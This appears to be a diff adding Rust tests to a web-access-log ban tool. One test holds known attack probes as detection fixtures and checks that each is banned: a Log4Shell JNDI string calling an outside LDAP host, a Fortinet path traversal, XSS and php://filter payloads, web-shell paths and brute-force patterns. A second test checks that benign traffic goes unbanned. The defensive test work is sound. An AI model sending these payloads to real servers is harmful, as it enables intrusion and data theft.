@@ -1045,3 +1045,337 @@ fn views_fit_an_80_column_terminal_and_wide_lays_out_in_full() {
         .unwrap();
     assert!(String::from_utf8_lossy(&out.stdout).contains("2a02:90c3:6b10::7eff"));
 }
+
+/// The categories and request shapes added for detection depth: each is
+/// caught by the rule named, and the normaliser sees through `//`, `..` and
+/// double encoding.
+#[test]
+fn new_categories_and_shapes_are_caught() {
+    let dir = tempfile::tempdir().unwrap();
+    let mut log = Log::default();
+    // (client, requests with status, agent, the rule that must be in the reason or be the rule)
+    type Case<'a> = (&'a str, Vec<(&'a str, u16)>, &'a str, &'a str);
+    let cases: Vec<Case> = vec![
+        (
+            "198.18.1.1",
+            vec![(
+                "GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession HTTP/1.1",
+                404,
+            )],
+            UA,
+            "exploit-paths",
+        ),
+        (
+            "198.18.1.2",
+            vec![("GET /?x=${jndi:ldap://198.18.9.9/a} HTTP/1.1", 200)],
+            UA,
+            "exploit-requests",
+        ),
+        (
+            "198.18.1.3",
+            vec![("GET /uploads/alfa.php HTTP/1.1", 404)],
+            UA,
+            "web-shells",
+        ),
+        (
+            "198.18.1.4",
+            vec![
+                ("GET /webmin/ HTTP/1.1", 404),
+                ("GET /roundcube/ HTTP/1.1", 404),
+            ],
+            UA,
+            "admin-panels",
+        ),
+        (
+            "198.18.1.5",
+            vec![
+                (
+                    "GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1",
+                    200,
+                ),
+                ("GET /?q=%22%3E%3Csvg/onload=alert(1)%3E HTTP/1.1", 200),
+            ],
+            UA,
+            "xss-probes",
+        ),
+        (
+            "198.18.1.6",
+            vec![(
+                "GET /index.php?page=php://filter/resource=index HTTP/1.1",
+                200,
+            )],
+            UA,
+            "remote-file-inclusion",
+        ),
+        (
+            "198.18.1.7",
+            vec![("GET /w00tw00t.at.ISC.SANS.DFind:) HTTP/1.1", 400)],
+            UA,
+            "scanner-signatures",
+        ),
+        (
+            "198.18.1.8",
+            vec![("POST /comments HTTP/1.1", 200)],
+            "Mozilla/4.0 (compatible; XRumer 19)",
+            "spam-bots",
+        ),
+        (
+            "198.18.1.9",
+            vec![("GET / HTTP/7.7", 400)],
+            UA,
+            "bad-protocol",
+        ),
+        // The normaliser: // and .. and double encoding reach the lists.
+        (
+            "198.18.1.10",
+            vec![
+                ("GET //wp-login.php HTTP/1.1", 404),
+                ("GET /x/..%252fwp-admin/ HTTP/1.1", 404),
+            ],
+            UA,
+            "wordpress-probes",
+        ),
+    ];
+    for (n, (ip, reqs, ua, _)) in cases.iter().enumerate() {
+        for (k, (r, status)) in reqs.iter().enumerate() {
+            log.add((n * 20 + k * 5) as f64, ip, r, *status, ua);
+        }
+    }
+    // Shapes: malformed requests, agent rotation, cache-busting, 401/403
+    // brute force, login POST floods, a mix of refusals.
+    for i in 0..11 {
+        log.add(
+            300.0 + i as f64,
+            "198.18.2.1",
+            "\\x16\\x03\\x01\\x02\\x00\\x01",
+            400,
+            "-",
+        );
+    }
+    // Agent rotation is one signal (10 points): with one probe it bans.
+    for i in 0..11 {
+        log.add(
+            400.0 + i as f64 * 2.0,
+            "198.18.2.2",
+            "GET /page HTTP/1.1",
+            200,
+            &format!("Agent/{i}"),
+        );
+    }
+    log.add(430.0, "198.18.2.2", "GET /.env HTTP/1.1", 404, "Agent/0");
+    for i in 0..121 {
+        log.add(
+            500.0 + i as f64 * 0.4,
+            "198.18.2.3",
+            &format!("GET /product?cb={}{i} HTTP/1.1", i * 7919),
+            200,
+            UA,
+        );
+    }
+    for i in 0..11 {
+        log.add(
+            600.0 + i as f64 * 20.0,
+            "198.18.2.4",
+            "GET /admin/ HTTP/1.1",
+            401,
+            UA,
+        );
+    }
+    for i in 0..21 {
+        log.add(
+            900.0 + i as f64 * 2.0,
+            "198.18.2.5",
+            "POST /account/login HTTP/1.1",
+            200,
+            UA,
+        );
+    }
+    for i in 0..11 {
+        log.add(
+            1000.0 + i as f64 * 3.0,
+            "198.18.2.6",
+            &format!("GET /private/{i} HTTP/1.1"),
+            [400, 403, 405][i % 3],
+            UA,
+        );
+    }
+    let p = log.write(dir.path(), "access.log");
+    let d = decisions(&[p.to_str().unwrap()]);
+    let find = |ip: &str| d.iter().find(|x| x["ip"] == ip);
+    for (ip, _, _, rule) in &cases {
+        let x = find(ip).unwrap_or_else(|| panic!("{ip} ({rule}) not banned: {d:#?}"));
+        let said = format!("{} {}", x["rule"], x["reason"]);
+        assert!(said.contains(rule), "{ip}: {said}");
+    }
+    for (ip, rule) in [
+        ("198.18.2.1", "bad-requests"),
+        ("198.18.2.2", "agent-rotation"),
+        ("198.18.2.3", "cache-busting"),
+        ("198.18.2.4", "auth-failures"),
+        ("198.18.2.5", "login-posts"),
+        ("198.18.2.6", "refusal-mix"),
+    ] {
+        let x = find(ip).unwrap_or_else(|| panic!("{ip} ({rule}) not banned: {d:#?}"));
+        let said = format!("{} {}", x["rule"], x["reason"]);
+        assert!(said.contains(rule), "{ip}: {said}");
+    }
+}
+
+/// The false-ban corpus: benign traffic every site sees. Not one ban, and
+/// every new pattern has to prove itself against it.
+#[test]
+fn a_false_ban_corpus_of_benign_traffic_yields_no_ban() {
+    let dir = tempfile::tempdir().unwrap();
+    let mut log = Log::default();
+    // Feed readers polling every 15 minutes, mostly 304.
+    for (k, agent) in [
+        "Feedly/1.0 (+http://www.feedly.com/fetcher.html)",
+        "NewsBlur Feed Fetcher - 12 subscribers",
+        "Tiny Tiny RSS/22.08",
+    ]
+    .iter()
+    .enumerate()
+    {
+        for i in 0..8 {
+            log.add(
+                i as f64 * 900.0 + k as f64,
+                &format!("192.0.2.{}", 10 + k),
+                "GET /feed.xml HTTP/1.1",
+                if i == 0 { 200 } else { 304 },
+                agent,
+            );
+        }
+    }
+    // Uptime monitors: every 30 s, HEAD and GET.
+    for i in 0..240 {
+        log.add(
+            i as f64 * 30.0,
+            "192.0.2.20",
+            "HEAD / HTTP/1.1",
+            200,
+            "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
+        );
+        log.add(
+            i as f64 * 30.0 + 1.0,
+            "192.0.2.21",
+            "GET /health HTTP/1.1",
+            200,
+            "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)",
+        );
+    }
+    // A link checker: one URL a second, a few dead.
+    for i in 0..600 {
+        let status = if i % 40 == 0 { 404 } else { 200 };
+        log.add(
+            i as f64,
+            "192.0.2.30",
+            &format!("HEAD /docs/page-{i} HTTP/1.1"),
+            status,
+            "W3C-checklink/5.0.0 libwww-perl/6.72",
+        );
+    }
+    // An SEO crawler at a steady 3 pages a second with stale links.
+    for i in 0..1500 {
+        let (path, status) = if i % 30 == 0 {
+            (format!("/gone/{i}"), 404)
+        } else {
+            (format!("/p/{i}"), 200)
+        };
+        log.add(
+            i as f64 / 3.0,
+            "192.0.2.40",
+            &format!("GET {path} HTTP/1.1"),
+            status,
+            "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
+        );
+    }
+    // An API client paging through results, one page a second, and
+    // polling with a cache-busting timestamp once a second.
+    for i in 0..600 {
+        log.add(
+            i as f64,
+            "192.0.2.50",
+            &format!("GET /api/items?page={i}&per_page=100 HTTP/1.1"),
+            200,
+            "python-requests/2.31.0",
+        );
+        log.add(
+            i as f64 + 0.5,
+            "192.0.2.51",
+            &format!("GET /api/status?ts={} HTTP/1.1", 1_714_557_600 + i),
+            200,
+            "okhttp/4.12.0",
+        );
+    }
+    // A mobile carrier's pool: 60 addresses of one /16 on a shared article.
+    for i in 0..60 {
+        log.add(
+            2000.0 + i as f64 * 0.8,
+            &format!("100.64.{}.{}", i / 8, 10 + i),
+            "GET /news/big-story HTTP/2.0",
+            200,
+            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X)",
+        );
+    }
+    // A person who mistypes a password three times, then logs in.
+    for i in 0..4 {
+        log.add(
+            3000.0 + i as f64 * 10.0,
+            "192.0.2.60",
+            "POST /account/login HTTP/1.1",
+            if i < 3 { 401 } else { 302 },
+            UA,
+        );
+    }
+    // Someone searching as they type (distinct queries on one path).
+    for (i, q) in [
+        "a",
+        "ap",
+        "app",
+        "appl",
+        "apple",
+        "apple+pie",
+        "apple+pie+recipe",
+    ]
+    .iter()
+    .enumerate()
+    {
+        log.add(
+            3100.0 + i as f64 * 0.3,
+            "192.0.2.61",
+            &format!("GET /search?q={q} HTTP/1.1"),
+            200,
+            UA,
+        );
+    }
+    // A site admin in their own (non-listed) admin area, a stray 403.
+    for i in 0..30 {
+        log.add(
+            3200.0 + i as f64 * 4.0,
+            "192.0.2.62",
+            &format!("GET /admin/orders/{i} HTTP/1.1"),
+            200,
+            UA,
+        );
+    }
+    log.add(
+        3330.0,
+        "192.0.2.62",
+        "GET /admin/settings HTTP/1.1",
+        403,
+        UA,
+    );
+    // A link with an external URL in the query (a login redirect).
+    log.add(
+        3400.0,
+        "192.0.2.63",
+        "GET /login?next=https://shop.example/cart HTTP/1.1",
+        200,
+        UA,
+    );
+    // A browser sending one broken request.
+    log.add(3500.0, "192.0.2.64", "", 400, "-");
+    let p = log.write(dir.path(), "access.log");
+    let d = decisions(&[p.to_str().unwrap()]);
+    assert!(d.is_empty(), "false bans: {d:#?}");
+}
